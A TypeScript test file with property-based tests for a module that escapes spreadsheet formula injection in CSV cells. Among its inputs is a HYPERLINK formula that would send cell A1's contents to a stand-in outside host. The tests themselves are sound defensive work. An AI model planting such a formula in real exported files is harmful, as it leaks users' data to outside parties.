import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvRow, escapeFormula, numberCell, textCell } from '../shared/spreadsheet-cells.ts';
import { readCsvCells as parseCsv } from './support/read-csv.ts';

/** Text that leans towards what spreadsheets and CSV readers trip over. */
const trickyText = fc.string({
  unit: fc.oneof(
    fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '\r\n', '"', ',', ';', "'", ' ', '\u00a0', '1', 'A', 'ø', '＝'),
    fc.string({ minLength: 1, maxLength: 1 }),
  ),
  maxLength: 20,
});

describe('escapeFormula (spec 2.4)', () => {
  it.each([
    ['=HYPERLINK("http://x.example/?q="&A1,"klik")', `'=HYPERLINK("http://x.example/?q="&A1,"klik")`],
    ['+1', "'+1"],
    ['-x', "'-x"],
    ['-1234.50', "'-1234.50"], // as text (e.g. a participant id) it is escaped like any other
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
  ])('%j is written %j', (text, escaped) => {
    expect(escapeFormula(text)).toBe(escaped);
  });

  it.each(['P-7', 'px_0123456789abcdef', '', ' =1', "'=1", 'a=b', '2024-W05', '1+1', 'Køge'])('leaves %j as it is', (text) => {
    expect(escapeFormula(text)).toBe(text);
  });
});

describe('textCell', () => {
  it('escapes first, then quotes cells holding a delimiter, a quote or a line break', () => {
    expect(textCell('=HYPERLINK("x","y")')).toBe(`"'=HYPERLINK(""x"",""y"")"`);
    expect(textCell('Hansen, P')).toBe('"Hansen, P"');
    expect(textCell('a;b')).toBe('"a;b"');
    expect(textCell('12" skærm')).toBe('"12"" skærm"');
    expect(textCell('two\nlines')).toBe('"two\nlines"');
    expect(textCell('\rled')).toBe(`"'\rled"`);
    expect(textCell('\tled')).toBe("'\tled");
    expect(textCell('plain')).toBe('plain');
  });

  it('a row of text cells reads back as exactly the escaped values, none starting a formula (property)', () => {
    fc.assert(
      fc.property(fc.array(trickyText, { minLength: 2, maxLength: 6 }), (values) => {
        const [cells] = parseCsv(csvRow(values.map(textCell)) + '\n');
        expect(cells).toEqual(values.map(escapeFormula));
        for (const [i, cell] of cells!.entries()) {
          expect(cell).not.toMatch(/^[=+\-@\t\r]/);
          // the only change is one leading quote, and only where it was needed
          expect(cell === values[i] || cell === `'${values[i]}`).toBe(true);
        }
      }),
    );
  });
});

describe('numberCell', () => {
  it('writes numbers the writer formatted as they are, negative ones included', () => {
    for (const n of ['-1234.50', '0.00', '15000.00', '7.5', '-0.25', '0.123', '1e-7', '12']) expect(numberCell(n)).toBe(n);
  });

  it('writes anything that is not a plain number as text, escaped', () => {
    expect(numberCell('=1+1')).toBe("'=1+1");
    expect(numberCell('-Infinity')).toBe("'-Infinity");
    expect(numberCell('NaN')).toBe('NaN');
    expect(numberCell('1,5')).toBe('"1,5"');
  });

  it('a formatted amount reads back as the same number; any other string is a text cell (property)', () => {
    fc.assert(
      fc.property(fc.double({ min: -1e12, max: 1e12, noNaN: true }), (amount) => {
        const text = amount.toFixed(2);
        const [[cell]] = parseCsv(numberCell(text) + '\n') as [[string]];
        expect(cell).toBe(text);
        expect(Number(cell)).toBeCloseTo(amount, 2);
      }),
    );
    fc.assert(
      fc.property(trickyText, (text) => {
        expect(numberCell(text)).toBe(/^-?\d+(\.\d+)?(e[+-]?\d+)?$/.test(text) ? text : textCell(text));
      }),
    );
  });
});
